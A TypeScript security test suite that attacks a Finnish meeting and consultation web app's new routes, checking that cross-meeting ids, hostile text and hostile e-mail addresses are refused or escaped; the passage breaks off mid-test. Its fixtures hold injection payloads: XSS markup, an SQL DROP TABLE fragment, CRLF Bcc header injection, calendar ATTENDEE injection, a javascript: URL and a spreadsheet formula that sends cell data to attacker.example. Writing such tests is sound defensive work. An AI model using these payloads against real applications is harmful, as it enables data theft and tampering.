// Issue 12's new routes attacked as an outsider would (part H7), on every engine: Yhdessä aika
// (meetings) and consultations. Another meeting's or another requester's ids, hostile text
// (controls, bidi overrides, 10,000 characters, formula-looking text), hostile e-mail
// addresses, forged and odd calendar replies by e-mail, two organisers at once, and the
// private links past their time. Each attempt ends in a coded 4xx (or is ignored, for mail)
// and changes nothing; what does reach a calendar file or a mail is escaped.
import { randomUUID } from 'node:crypto';
import type { LightMyRequestResponse } from 'fastify';
import nodeIcal from 'node-ical';
import { createTransport } from 'nodemailer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderMeetingTemplate } from '../../src/features/meetings/invitations.ts';
import { helsinkiLocal } from '../../src/features/meetings/model.ts';
import { type ReplyOutcome, recordCalendarReply } from '../../src/features/meetings/replies.ts';
import { buildReply } from '../../src/platform/calendar.ts';
import { handleInboundMessage } from '../../src/platform/inbound-mail.ts';
import { mailOptions } from '../../src/platform/mail.ts';
import { startTestApp, type TestApp } from '../app.ts';
import { call, SAME_ORIGIN, seedExtraStaff, signIn, tokenOf, validContact } from '../contact-fixtures.ts';
import { ENGINES } from '../databases.ts';

const HTML = { accept: 'text/html' };
const REPLY_ADDRESS = 'yhdessa-aika@pohjois-savo.example';
const RLO = '\u202E';
const LRI = '\u2066';
const PDI = '\u2069';
const ZWJ = '\u200D';
const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Avaa")';

/** Days ahead at 9.00 Helsinki time, as a datetime-local value. */
const ahead = (days: number, hour = 9) => {
  const d = new Date(Date.now() + days * 86_400_000);
  return `${helsinkiLocal(d).slice(0, 10)}T${String(hour).padStart(2, '0')}:00`;
};

interface OutboxRow {
  id: string | number;
  recipient: string;
  template: string;
  language: 'fi' | 'sv' | 'en';
  params: Record<string, unknown>;
}

/** A raw mail (RFC 5322) carrying a calendar, as a mail client would send it. */
async function rawMail(from: string | null, ics: string): Promise<Buffer> {
  const transport = createTransport({ streamTransport: true, buffer: true });
  const info = await transport.sendMail({
    ...(from ? { from } : {}),
    to: REPLY_ADDRESS,
    subject: 'Vastaus',
    text: 'Vastaus',
    icalEvent: { method: 'REPLY', content: ics },
  });
  const raw = (info.message as Buffer).toString('utf8');
  // nodemailer always writes a From: take it out for a mail without one
  return Buffer.from(from ? raw : raw.replace(/^From:.*\r\n/im, ''));
}

/** A METHOD:REPLY calendar with the given VEVENT bodies (hand-written, as an attacker would). */
function replyCalendar(events: string[]): string {
  return [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'PRODID:-//Mallory//EN',
    'METHOD:REPLY',
    ...events.flatMap((e) => ['BEGIN:VEVENT', e, 'END:VEVENT']),
    'END:VCALENDAR',
    '',
  ].join('\r\n');
}

const replyEvent = (uid: string, sequence: number, attendees: [string, string][]) =>
  [
    `UID:${uid}`,
    `SEQUENCE:${sequence}`,
    'DTSTAMP:20270101T000000Z',
    'DTSTART:20270301T070000Z',
    'DTEND:20270301T083000Z',
    'ORGANIZER:mailto:yhdessa-aika@pohjois-savo.example',
    ...attendees.map(([email, partstat]) => `ATTENDEE;PARTSTAT=${partstat}:mailto:${email}`),
  ].join('\r\n');

/** The places of U+202E in a page that are not inside an isolating element (as bidi.test.ts). */
function unisolated(html: string): string[] {
  const found: string[] = [];
  const stack: boolean[] = [];
  const VOID = new Set(['br', 'hr', 'img', 'input', 'link', 'meta', 'col', 'source', 'wbr']);
  for (const m of html.matchAll(/<(\/?)([a-zA-Z0-9]+)([^>]*)>|[^<]+/g)) {
    if (m[2]) {
      const tag = m[2].toLowerCase();
      if (VOID.has(tag) || m[3]?.endsWith('/')) continue;
      if (m[1]) stack.pop();
      else stack.push(tag === 'bdi' || tag === 'textarea' || /\sdir="auto"/.test(m[3] ?? ''));
    } else if (m[0].includes(RLO) && !stack.some(Boolean)) found.push(m[0].trim().slice(0, 60));
  }
  return found;
}

describe.each(ENGINES)('issue 12 attacked as an outsider, on %s', (engine) => {
  let t: TestApp;
  const sessions: Record<string, string> = {};
  const db = () => t.database.db;

  const get = (url: string, who?: string) =>
    t.app.inject({ url, headers: { ...HTML, ...(who && sessions[who] ? { cookie: sessions[who] } : {}) } });

  /** A page's form as a browser holds it (its CSRF cookie and token), posted later. */
  async function openForm(who: string | null, pageUrl: string) {
    const page = await get(pageUrl, who ?? undefined);
    expect(page.statusCode, `${pageUrl}: ${page.body.slice(0, 300)}`).toBe(200);
    const csrfCookie = String(page.headers['set-cookie'] ?? '')
      .split(/,(?=\s*\w+=)/)
      .map((c) => c.split(';')[0]?.trim())
      .find((c) => c?.startsWith('_csrf='));
    const token = /name="_csrf" value="([^"]+)"/.exec(page.body)?.[1];
    expect(token, 'the page has a form token').toBeTruthy();
    return (action: string, fields: Record<string, string>): Promise<LightMyRequestResponse> => {
      const body = new URLSearchParams();
      body.append('_csrf', token as string);
      for (const [k, v] of Object.entries(fields)) body.append(k, v);
      return t.app.inject({
        method: 'POST',
        url: action,
        headers: {
          ...HTML,
          cookie: [who ? sessions[who] : undefined, csrfCookie].filter(Boolean).join('; '),
          'content-type': 'application/x-www-form-urlencoded',
        },
        payload: body.toString(),
      });
    };
  }
  const post = async (who: string | null, pageUrl: string, action: string, fields: Record<string, string>) =>
    (await openForm(who, pageUrl))(action, fields);

  async function newContact() {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/contacts',
      headers: { ...SAME_ORIGIN, 'content-type': 'application/json' },
      payload: JSON.stringify(
        validContact({ name: 'Maija Mallikas', replyChannel: 'phone', phone: '040 123 4567' }),
      ),
    });
    expect(res.statusCode, res.body).toBe(201);
    const { reference, statusUrl } = res.json() as { reference: string; statusUrl: string };
    const row = await db()
      .selectFrom('contact')
      .select('id')
      .where('reference', '=', reference)
      .executeTakeFirstOrThrow();
    return { id: row.id, token: tokenOf(statusUrl) };
  }

  const meetingRow = (id: string) =>
    db().selectFrom('meeting').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
  const participants = (id: string) =>
    db()
      .selectFrom('meeting_participant')
      .selectAll()
      .where('meeting_id', '=', id)
      .orderBy('added_at')
      .orderBy('id')
      .execute();
  const slots = (id: string) =>
    db().selectFrom('meeting_slot').selectAll().where('meeting_id', '=', id).orderBy('starts_at').execute();
  async function outbox(template?: string): Promise<OutboxRow[]> {
    let q = db()
      .selectFrom('outbox')
      .select(['id', 'recipient', 'template', 'language', 'params'])
      .orderBy('id');
    if (template) q = q.where('template', '=', template);
    return (await q.execute()) as unknown as OutboxRow[];
  }
  const lastOutboxId = async () => Number((await outbox()).at(-1)?.id ?? 0);
  const mailsSince = async (template: string, after: number) =>
    (await outbox(template)).filter((r) => Number(r.id) > after);
  const pollUrl = (row: OutboxRow) => new URL(String(row.params.link)).pathname;

  const page = (id: string) => `/fi/staff/meetings/${id}`;
  async function start(contactId: string, who = 'neuvoja'): Promise<string> {
    const meetingId = randomUUID();
    const res = await post(who, `/fi/staff/meetings/new?contact=${contactId}`, '/fi/staff/meetings', {
      meetingId,
      contactId,
      duration: '90',
    });
    expect(res.statusCode, res.body.slice(0, 500)).toBe(303);
    return meetingId;
  }
  const step = async (id: string, action: string, fields: Record<string, string>, who = 'neuvoja') => {
    const version = String((await meetingRow(id)).version);
    return post(who, page(id), `${page(id)}/${action}`, { version, ...fields });
  };
  const addExternal = (id: string, fields: Record<string, string>) =>
    step(id, 'participants', {
      source: 'external',
      participantId: randomUUID(),
      language: 'fi',
      name: 'Outi Opettaja',
      organizationName: 'Jynkän koulu',
      email: `outi.${randomUUID().slice(0, 8)}@example.fi`,
      ...fields,
    });

  /** A meeting with two outside participants and the family, its place and three times proposed. */
  async function meetingWithPoll(extra: { address?: string } = {}) {
    const contact = await newContact();
    const id = await start(contact.id);
    expect((await addExternal(id, { email: 'outi@example.fi' })).statusCode).toBe(303);
    expect((await addExternal(id, { name: 'Sami Sosiaalityö', email: 'sami@example.fi' })).statusCode).toBe(
      303,
    );
    expect(
      (
        await step(id, 'participants', {
          source: 'family',
          participantId: randomUUID(),
          language: 'fi',
          familyName: 'Maija Mallikas',
          familyEmail: 'maija@example.fi',
        })
      ).statusCode,
    ).toBe(303);
    const placed = await step(id, 'place', {
      placeKind: 'address',
      address: extra.address ?? 'Perheneuvola, Kauppakatu 1, Kuopio',
      duration: '90',
    });
    expect(placed.statusCode, placed.body.slice(0, 300)).toBe(303);
    const before = await lastOutboxId();
    const res = await step(id, 'times', { start1: ahead(10), start2: ahead(11), start3: ahead(12, 13) });
    expect(res.statusCode, res.body.slice(0, 300)).toBe(303);
    return { contact, id, polls: await mailsSince('meeting.poll', before) };
  }

  /** The meeting invited: the first time locked, the invitations sent. */
  async function invited(extra: { address?: string } = {}) {
    const m = await meetingWithPoll(extra);
    const [slot] = await slots(m.id);
    expect((await step(m.id, 'lock', { slotId: slot?.id ?? '' })).statusCode).toBe(303);
    const before = await lastOutboxId();
    expect((await step(m.id, 'invite', {})).statusCode).toBe(303);
    return { ...m, invitations: await mailsSince('meeting.invitation', before) };
  }

  beforeAll(async () => {
    t = await startTestApp(engine, {
      seedDemo: true,
      config: { inboundMail: { replyAddress: REPLY_ADDRESS, port: 0, host: '127.0.0.1', maxBytes: 1 << 20 } },
    });
    await seedExtraStaff(db());
    for (const who of ['neuvoja', 'neuvoja2', 'kumppani', 'opettaja', 'pirkanmaa-neuvoja', 'kuopio-neuvoja'])
      sessions[who] = await signIn(t.app, who);
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  // ---------------------------------------------------------------- another meeting's ids

  describe("another meeting's ids", () => {
    it('locks no slot of another meeting (400), and changes nothing', async () => {
      const a = await meetingWithPoll();
      const b = await meetingWithPoll();
      const [other] = await slots(b.id);
      const before = await meetingRow(a.id);
      const res = await step(a.id, 'lock', { slotId: other?.id ?? '' });
      expect(res.statusCode).toBe(400);
      expect(res.body).toContain('data-qa="error-summary"');
      expect(await meetingRow(a.id)).toMatchObject({ state: 'proposed', version: before.version });
      expect((await meetingRow(b.id)).state).toBe('proposed');
    });

    it("keeps no answer for another meeting's slot", async () => {
      const a = await meetingWithPoll();
      const b = await meetingWithPoll();
      const aSlots = await slots(a.id);
      const bSlots = await slots(b.id);
      const outi = a.polls.find((r) => r.recipient === 'outi@example.fi') as OutboxRow;
      const url = pollUrl(outi);
      // only the other meeting's slots: 400, nothing kept
      const onlyOthers = Object.fromEntries(bSlots.map((s) => [`slot-${s.id}`, 'yes']));
      expect((await post(null, url, `${url}/answers`, onlyOthers)).statusCode).toBe(400);
      // its own and the other's: its own kept, the other's not
      const res = await post(null, url, `${url}/answers`, {
        ...onlyOthers,
        ...Object.fromEntries(aSlots.map((s) => [`slot-${s.id}`, 'no'])),
      });
      expect(res.statusCode).toBe(303);
      const votes = await db().selectFrom('meeting_vote').select(['slot_id']).execute();
      const ids = new Set(votes.map((v) => v.slot_id));
      for (const s of bSlots) expect(ids.has(s.id)).toBe(false);
    });

    it('removes no participant of another meeting (404), and none of its own', async () => {
      const a = await meetingWithPoll();
      const b = await meetingWithPoll();
      const [victim] = await participants(b.id);
      const res = await step(a.id, 'participants/remove', { participantId: victim?.id ?? '' });
      expect(res.statusCode).toBe(404);
      expect((await participants(b.id)).every((p) => p.removed_at === null)).toBe(true);
      expect((await participants(a.id)).every((p) => p.removed_at === null)).toBe(true);
    });

    it("adds no participant under another meeting's participant id (a coded 409), and changes neither", async () => {
      const a = await meetingWithPoll();
      const b = await meetingWithPoll();
      const [victim] = await participants(b.id);
      const countA = (await participants(a.id)).length;
      const res = await step(a.id, 'participants', {
        source: 'external',
        participantId: victim?.id ?? '',
        language: 'fi',
        name: 'Mallory',
        organizationName: 'Mallory Oy',
        email: 'mallory@example.fi',
      });
      expect(res.statusCode, res.body.slice(0, 300)).toBe(409);
      expect(res.body).toContain('data-qa="conflict"');
      expect(await participants(a.id)).toHaveLength(countA);
      expect((await participants(b.id)).find((p) => p.id === victim?.id)).toMatchObject({
        meeting_id: b.id,
        name: victim?.name,
      });
    });

    it("names no participant of another meeting in the agreements (400), and the notes of another region's meeting are not found", async () => {
      const a = await invited();
      const b = await meetingWithPoll();
      const [stranger] = await participants(b.id);
      // the meeting began an hour ago
      const began = new Date(Date.now() - 3_600_000);
      await db()
        .updateTable('meeting')
        .set({ starts_at: began, ends_at: new Date(began.getTime() + 90 * 60_000) })
        .where('id', '=', a.id)
        .execute();
      const notes = `${page(a.id)}/notes`;
      const version = String((await meetingRow(a.id)).version);
      const fields = {
        version,
        agenda: 'Koulun aloitus',
        'who-0': stranger?.id ?? '',
        'whoText-0': '',
        'what-0': 'Soittaa koululle',
        'by-0': '',
        followUpOn: helsinkiLocal(new Date(Date.now() + 14 * 86_400_000)).slice(0, 10),
        reason: '',
      };
      const res = await post('neuvoja', notes, notes, fields);
      expect(res.statusCode).toBe(400);
      expect((await meetingRow(a.id)).state).toBe('invited');
      expect(
        await db().selectFrom('record_entry').select('id').where('id', '=', a.id).execute(),
      ).toHaveLength(0);
      // another region's counsellor: neither the page nor the post
      expect((await get(notes, 'pirkanmaa-neuvoja')).statusCode).toBe(404);
      const own = await openForm('pirkanmaa-neuvoja', '/fi/staff/meetings');
      expect((await own(notes, { ...fields, 'who-0': 'other', 'whoText-0': 'Minä' })).statusCode).toBe(404);
      expect((await meetingRow(a.id)).state).toBe('invited');
    });

    it("a family's calendar file of this meeting with another contact's status link is not found", async () => {
      const a = await invited();
      const other = await newContact();
      const res = await get(`/fi/tilanne/${other.token}/meeting/${a.id}/calendar`);
      expect(res.statusCode).toBe(404);
      expect(res.body).not.toContain('BEGIN:VCALENDAR');
      const own = await get(`/fi/tilanne/${a.contact.token}/meeting/${a.id}/calendar`);
      expect(own.statusCode).toBe(200);
      expect(own.body).toContain('BEGIN:VCALENDAR');
    });
  });

  describe("another region's registry and video service", () => {
    it('adds no professional or staff user of another region from the registry (400)', async () => {
      const contact = await newContact();
      const id = await start(contact.id);
      const professional = await db()
        .selectFrom('professional')
        .innerJoin('unit', 'unit.id', 'professional.unit_id')
        .innerJoin('organization', 'organization.id', 'unit.organization_id')
        .innerJoin('region', 'region.id', 'organization.region_id')
        .select('professional.id')
        .where('region.code', '!=', 'pohjois-savo')
        .executeTakeFirst();
      const staff = await db()
        .selectFrom('staff_user')
        .innerJoin('region', 'region.id', 'staff_user.region_id')
        .select('staff_user.id')
        .where('region.code', '!=', 'pohjois-savo')
        .executeTakeFirstOrThrow();
      const refs = [
        `staff:${staff.id}`,
        `professional:${professional?.id ?? randomUUID()}`,
        'professional:',
        'staff:x:y',
        `staff:${staff.id}'; DROP TABLE meeting; --`,
      ];
      for (const ref of refs) {
        const res = await step(id, 'participants', {
          source: 'registry',
          participantId: randomUUID(),
          registry: ref,
          language: 'fi',
        });
        expect(res.statusCode, ref).toBe(400);
      }
      expect(await participants(id)).toHaveLength(0);
    });

    it("refuses a remote link that is not the region's video service (400)", async () => {
      const contact = await newContact();
      const id = await start(contact.id);
      for (const remoteUrl of [
        'javascript:alert(1)//https://video.pohjois-savo.example/',
        'https://video.pohjois-savo.example.attacker.example/room',
        'https://user:pass@video.pohjois-savo.example/room',
        'http://video.pohjois-savo.example/room',
        'https://attacker.example/?https://video.pohjois-savo.example/',
        `https://video.pohjois-savo.example/room${RLO}`,
        'https://video.pohjois-savo.example/room\r\nATTENDEE:mailto:x@example.fi',
      ]) {
        const res = await step(id, 'place', { placeKind: 'remote', remoteUrl, address: '', duration: '60' });
        expect(res.statusCode, remoteUrl).toBe(400);
      }
      expect((await meetingRow(id)).remote_url).toBeNull();
    });
  });

  describe("another contact's or region's meeting id in a create form", () => {
    it("starting a meeting with another contact's meeting id is not found, and changes it not", async () => {
      const a = await meetingWithPoll();
      const mine = await newContact();
      const before = await meetingRow(a.id);
      const res = await post('neuvoja', `/fi/staff/meetings/new?contact=${mine.id}`, '/fi/staff/meetings', {
        meetingId: a.id,
        contactId: mine.id,
        duration: '30',
      });
      expect(res.statusCode).toBe(404);
      expect(await meetingRow(a.id)).toEqual(before);
      // another region's counsellor with the meeting's own contact
      const theirs = await post('pirkanmaa-neuvoja', '/fi/staff/meetings', '/fi/staff/meetings', {
        meetingId: a.id,
        contactId: a.contact.id,
        duration: '30',
      });
      expect(theirs.statusCode).toBe(404);
      expect(await meetingRow(a.id)).toEqual(before);
    });

    it("the family's request form with another contact's meeting id is not found, nothing changed", async () => {
      const a = await meetingWithPoll();
      const other = await newContact();
      const form = `/fi/tilanne/${other.token}/meeting/request`;
      const before = await meetingRow(a.id);
      const res = await post(null, form, form, { requestId: a.id, topic: 'Hei', who: '', email: '' });
      expect(res.statusCode).toBe(404);
      expect(await meetingRow(a.id)).toEqual(before);
      expect(
        await db().selectFrom('meeting').select('id').where('contact_id', '=', other.id).execute(),
      ).toHaveLength(0);
    });
  });

  // ---------------------------------------------------------------- hostile text

  describe('hostile text', () => {
    const BAD = {
      nul: 'Outi\u0000Opettaja',
      bell: 'Outi\u0007Opettaja',
      crlf: 'Outi\r\nBcc: mallory@example.fi',
      rlo: `Outi ${RLO}ajattepO`,
      isolate: `Outi ${LRI}x${PDI}`,
      long: 'x'.repeat(10_000),
    };

    it.each(Object.entries(BAD))(
      'refuses a participant name or organisation with %s (400), adds nobody',
      async (_k, text) => {
        const { id } = await meetingWithPoll();
        const before = (await participants(id)).length;
        for (const field of ['name', 'organizationName']) {
          const res = await addExternal(id, { [field]: text });
          expect(res.statusCode, field).toBe(400);
          expect(res.body).toContain('data-qa="error-summary"');
        }
        const fam = await newContact();
        const other = await start(fam.id);
        const res = await step(other, 'participants', {
          source: 'family',
          participantId: randomUUID(),
          language: 'fi',
          familyName: text,
          familyEmail: '',
        });
        expect(res.statusCode).toBe(400);
        expect(await participants(id)).toHaveLength(before);
        expect(await participants(other)).toHaveLength(0);
      },
    );

    it.each(Object.entries(BAD))('refuses a place address with %s (400)', async (_k, text) => {
      const contact = await newContact();
      const id = await start(contact.id);
      const res = await step(id, 'place', { placeKind: 'address', address: text, duration: '90' });
      expect(res.statusCode).toBe(400);
      expect((await meetingRow(id)).place_address).toBeNull();
    });

    it('escapes what a name, organisation and address carry into the .ics: no extra ATTENDEE, no new VEVENT', async () => {
      const address = 'Kauppakatu 1; B, \\ ATTENDEE:mailto:mallory@example.fi END:VEVENT';
      const m = await meetingWithPoll({ address });
      const name = 'Outi, "O"; \\ =HYPERLINK("x") ATTENDEE:mailto:mallory@example.fi';
      expect(
        (await addExternal(m.id, { name, organizationName: '+cmd|calc @SUM(1)', email: 'ouka@example.fi' }))
          .statusCode,
      ).toBe(303);
      const [slot] = await slots(m.id);
      expect((await step(m.id, 'lock', { slotId: slot?.id ?? '' })).statusCode).toBe(303);
      const before = await lastOutboxId();
      expect((await step(m.id, 'invite', {})).statusCode).toBe(303);
      const rows = await mailsSince('meeting.invitation', before);
      const row = rows.find((r) => r.recipient === 'ouka@example.fi') as OutboxRow;
      const mail = renderMeetingTemplate(row.template, row.language, row.params);
      const ics = mail.calendar?.content ?? '';
      expect(ics.match(/^BEGIN:VEVENT/gm)).toHaveLength(1);
      expect(ics.match(/^ATTENDEE/gm)).toHaveLength(1);
      const parsed = Object.values(nodeIcal.sync.parseICS(ics)).filter(
        (c) => (c as { type?: string }).type === 'VEVENT',
      ) as nodeIcal.VEvent[];
      expect(parsed).toHaveLength(1);
      const event = parsed[0] as nodeIcal.VEvent;
      const attendees = Array.isArray(event.attendee) ? event.attendee : [event.attendee];
      expect(attendees).toHaveLength(1);
      expect(String((attendees[0] as { val: string }).val).toLowerCase()).toBe('mailto:ouka@example.fi');
      expect(String(event.location)).toBe(address);
      // the mail's headers: only the one recipient, nothing injected
      const info = await createTransport({ streamTransport: true, buffer: true }).sendMail({
        from: 'Perheverkko <no-reply@example.fi>',
        ...mailOptions({ to: row.recipient, ...mail }),
      });
      const head = (info.message as Buffer).toString('utf8').split('\r\n\r\n')[0] ?? '';
      expect(head).not.toMatch(/^(bcc|cc):/im);
      expect(head).toMatch(/^To: ouka@example\.fi$/m);
    });

    it('escapes markup in names, organisations and the address on the staff, poll and status pages and in the mail', async () => {
      const XSS = '<img src=x onerror=alert(1)>';
      const m = await meetingWithPoll({ address: `Katu 1 ${XSS}` });
      expect(
        (
          await addExternal(m.id, {
            name: `Outi ${XSS}`,
            organizationName: `Koulu ${XSS}`,
            email: 'xss@example.fi',
          })
        ).statusCode,
      ).toBe(303);
      const staffPage = (await get(page(m.id), 'neuvoja')).body;
      expect(staffPage).toContain('&lt;img src=x onerror=alert(1)&gt;');
      expect(staffPage).not.toContain(XSS);
      const poll = (await mailsSince('meeting.poll', 0)).find(
        (r) => r.recipient === 'xss@example.fi',
      ) as OutboxRow;
      const pollPage = (await get(pollUrl(poll))).body;
      expect(pollPage).toContain('&lt;img src=x onerror=alert(1)&gt;');
      expect(pollPage).not.toContain(XSS);
      const status = (await get(`/fi/tilanne/${m.contact.token}`)).body;
      expect(status).not.toContain(XSS);
      const mail = renderMeetingTemplate(poll.template, poll.language, poll.params);
      expect(mail.html).not.toContain(XSS);
    });

    it("keeps an organiser name with CR LF out of the mail's headers and the .ics lines", async () => {
      const m = await meetingWithPoll();
      await db()
        .updateTable('staff_user')
        .set({ name: 'Noora\r\nBcc: mallory@example.fi\r\nATTENDEE:mailto:mallory@example.fi' })
        .where('subject', '=', 'neuvoja')
        .execute();
      try {
        const [slot] = await slots(m.id);
        expect((await step(m.id, 'lock', { slotId: slot?.id ?? '' })).statusCode).toBe(303);
        const before = await lastOutboxId();
        expect((await step(m.id, 'invite', {})).statusCode).toBe(303);
        for (const row of await mailsSince('meeting.invitation', before)) {
          const mail = renderMeetingTemplate(row.template, row.language, row.params);
          const ics = mail.calendar?.content ?? '';
          expect(ics.match(/^ATTENDEE/gm)).toHaveLength(1);
          expect(ics).not.toMatch(/^Bcc/im);
          const info = await createTransport({ streamTransport: true, buffer: true }).sendMail({
            from: 'Perheverkko <no-reply@example.fi>',
            ...mailOptions({ to: row.recipient, ...mail }),
          });
          const head = (info.message as Buffer).toString('utf8').split('\r\n\r\n')[0] ?? '';
          expect(head).not.toMatch(/^bcc:/im);
        }
      } finally {
        await db()
          .updateTable('staff_user')
          .set({ name: 'Noora Neuvoja' })
          .where('subject', '=', 'neuvoja')
          .execute();
      }
    });

    it("isolates a family's request text with bidi overrides on the staff meeting page, and refuses its controls", async () => {
      const contact = await newContact();
      const form = `/fi/tilanne/${contact.token}/meeting/request`;
      const open = async () => {
        const p = await get(form);
        return /name="requestId" value="([^"]+)"/.exec(p.body)?.[1] ?? '';
      };
      for (const bad of ['a\u0000b', 'a\u0007b', 'x'.repeat(10_000)]) {
        const res = await post(null, form, form, { requestId: await open(), topic: bad, who: '', email: '' });
        expect(res.statusCode).toBe(400);
      }
      expect(
        await db().selectFrom('meeting').select('id').where('contact_id', '=', contact.id).execute(),
      ).toHaveLength(0);
      const res = await post(null, form, form, {
        requestId: await open(),
        topic: `Koulu ${RLO}uluok ${ZWJ} ${FORMULA}`,
        who: `${LRI}Opettaja${PDI}`,
        email: '',
      });
      expect(res.statusCode).toBe(303);
      const [m] = await db()
        .selectFrom('meeting')
        .select('id')
        .where('contact_id', '=', contact.id)
        .execute();
      const html = (await get(page(m?.id ?? ''), 'neuvoja')).body;
      expect(html).toContain(RLO);
      // every text with the override sits in an isolating element
      const at = html.indexOf(RLO);
      const opened = html.lastIndexOf('<', at);
      const tag = html.slice(opened, html.indexOf('>', opened) + 1);
      expect(tag).toMatch(/^<bdi|dir="auto"/);
      expect(html).not.toContain('<script');
    });

    it("keeps the notes' agenda and agreements with bidi overrides isolated, formulas as text, controls refused", async () => {
      const a = await invited();
      const began = new Date(Date.now() - 3_600_000);
      await db()
        .updateTable('meeting')
        .set({ starts_at: began, ends_at: new Date(began.getTime() + 90 * 60_000) })
        .where('id', '=', a.id)
        .execute();
      const notes = `${page(a.id)}/notes`;
      const fields = (agenda: string) => ({
        version: '0',
        agenda,
        'who-0': 'other',
        'whoText-0': `${FORMULA} ${RLO}ijaajrik`,
        'what-0': `@SUM(1) +cmd ${RLO}aivo`,
        'by-0': '',
        followUpOn: helsinkiLocal(new Date(Date.now() + 14 * 86_400_000)).slice(0, 10),
        reason: '',
      });
      for (const bad of ['a\u0000b', 'a\u0007b', 'x'.repeat(10_000)]) {
        const version = String((await meetingRow(a.id)).version);
        const res = await post('neuvoja', notes, notes, { ...fields(bad), version });
        expect(res.statusCode).toBe(400);
      }
      expect((await meetingRow(a.id)).state).toBe('invited');
      const version = String((await meetingRow(a.id)).version);
      const ok = await post('neuvoja', notes, notes, { ...fields(`Esityslista ${RLO}atsil`), version });
      expect(ok.statusCode, ok.body.slice(0, 300)).toBe(303);
      const html = (await get(notes, 'neuvoja')).body;
      expect(html).toContain(RLO);
      expect(unisolated(html)).toEqual([]);
      expect(html).not.toContain('<script');
      const contactPage = (await get(`/fi/staff/contacts/${a.contact.id}`, 'neuvoja')).body;
      expect(contactPage).toContain(RLO);
      expect(unisolated(contactPage)).toEqual([]);
      // the family's status page shows the agreements, isolated too
      const status = (await get(`/fi/tilanne/${a.contact.token}`)).body;
      expect(status).toContain(RLO);
      expect(unisolated(status)).toEqual([]);
    });

    it('refuses a NUL in the cancel reason (400, PostgreSQL cannot keep it), and 1,001 characters', async () => {
      const m = await meetingWithPoll();
      for (const reason of ['Peruttu\u0000', 'x'.repeat(1001)]) {
        const res = await step(m.id, 'cancel', { reason });
        expect(res.statusCode, JSON.stringify(reason.slice(0, 10))).toBe(400);
      }
      expect((await meetingRow(m.id)).state).toBe('proposed');
    });

    it('refuses bidi overrides, controls and 10,000 characters in consultation text (400), saves nothing', async () => {
      const count = async () => (await db().selectFrom('consultation').select('id').execute()).length;
      const before = await count();
      for (const question of [`Kysymys ${RLO}xx`, `Kysymys ${LRI}x${PDI}`, 'a\u0000b', 'x'.repeat(10_000)]) {
        const res = await call(t.app, {
          method: 'POST',
          url: '/api/consultations',
          cookie: sessions.kumppani,
          payload: { kind: 'consultation', about: 'anonymous', question, notIdentifying: true },
        });
        expect(res.statusCode, question.slice(0, 20)).toBe(400);
      }
      const cowork = await call(t.app, {
        method: 'POST',
        url: '/api/consultations',
        cookie: sessions.kumppani,
        payload: {
          kind: 'cowork',
          about: 'anonymous',
          question: 'Tarvitsemme työparia.',
          notIdentifying: true,
          coworkAt: ahead(5),
          coworkPlace: `Koulu\r\nBcc: x@example.fi`,
        },
      });
      expect(cowork.statusCode).toBe(400);
      for (const place of [`Koulu ${RLO}ulu`, 'x'.repeat(10_000)]) {
        const res = await call(t.app, {
          method: 'POST',
          url: '/api/consultations',
          cookie: sessions.kumppani,
          payload: {
            kind: 'cowork',
            about: 'anonymous',
            question: 'Tarvitsemme työparia.',
            notIdentifying: true,
            coworkAt: ahead(5),
            coworkPlace: place,
          },
        });
        expect(res.statusCode).toBe(400);
      }
      expect(await count()).toBe(before);
    });
  });

  // ---------------------------------------------------------------- e-mail addresses

  describe('e-mail addresses', () => {
    const BAD_EMAILS = {
      crlf: 'outi@example.fi\r\nBcc: mallory@example.fi',
      comma: 'outi@example.fi, mallory@example.fi',
      displayName: 'Outi <outi@example.fi>',
      huge: `${'a'.repeat(64)}@${'b'.repeat(200)}.fi`,
      semicolon: 'outi@example.fi;mallory@example.fi',
    };

    it.each(Object.entries(BAD_EMAILS))('refuses a participant e-mail with %s (400)', async (_k, email) => {
      const contact = await newContact();
      const id = await start(contact.id);
      const res = await addExternal(id, { email });
      expect(res.statusCode).toBe(400);
      const fam = await step(id, 'participants', {
        source: 'family',
        participantId: randomUUID(),
        language: 'fi',
        familyName: 'Perhe',
        familyEmail: email,
      });
      expect(fam.statusCode).toBe(400);
      expect(await participants(id)).toHaveLength(0);
      // the family's own request form (a contact with no meeting open)
      const fresh = await newContact();
      const form = `/fi/tilanne/${fresh.token}/meeting/request`;
      const p = await get(form);
      const requestId = /name="requestId" value="([^"]+)"/.exec(p.body)?.[1] ?? '';
      const req = await post(null, form, form, { requestId, topic: '', who: '', email });
      expect(req.statusCode).toBe(400);
      expect(
        await db().selectFrom('meeting').select('id').where('contact_id', '=', fresh.id).execute(),
      ).toHaveLength(0);
    });

    it('refuses the organiser reply address itself as a participant (400): invitations would mail the listener', async () => {
      const contact = await newContact();
      const id = await start(contact.id);
      for (const email of [REPLY_ADDRESS, REPLY_ADDRESS.toUpperCase()]) {
        const res = await addExternal(id, { email });
        expect(res.statusCode, email).toBe(400);
      }
      expect(await participants(id)).toHaveLength(0);
    });

    it("mails nothing to the organiser reply address, even when the family's request gave it as its own", async () => {
      const contact = await newContact();
      const form = `/fi/tilanne/${contact.token}/meeting/request`;
      const p = await get(form);
      const requestId = /name="requestId" value="([^"]+)"/.exec(p.body)?.[1] ?? '';
      const res = await post(null, form, form, { requestId, topic: 'Koulu', who: '', email: REPLY_ADDRESS });
      expect(res.statusCode).toBe(303);
      expect((await step(requestId, 'organise', {})).statusCode).toBe(303);
      expect((await addExternal(requestId, { email: 'outi@example.fi' })).statusCode).toBe(303);
      expect(
        (await step(requestId, 'place', { placeKind: 'address', address: 'Kauppakatu 1', duration: '60' }))
          .statusCode,
      ).toBe(303);
      const before = await lastOutboxId();
      expect(
        (await step(requestId, 'times', { start1: ahead(10), start2: ahead(11), start3: ahead(12) }))
          .statusCode,
      ).toBe(303);
      const [slot] = await slots(requestId);
      expect((await step(requestId, 'lock', { slotId: slot?.id ?? '' })).statusCode).toBe(303);
      expect((await step(requestId, 'invite', {})).statusCode).toBe(303);
      const sent = (await outbox()).filter((r) => Number(r.id) > before).map((r) => r.recipient);
      expect(sent).toContain('outi@example.fi');
      expect(sent).not.toContain(REPLY_ADDRESS);
    });

    it("keeps the family's request e-mail in lower case, so that its calendar reply is recorded", async () => {
      const contact = await newContact();
      const form = `/fi/tilanne/${contact.token}/meeting/request`;
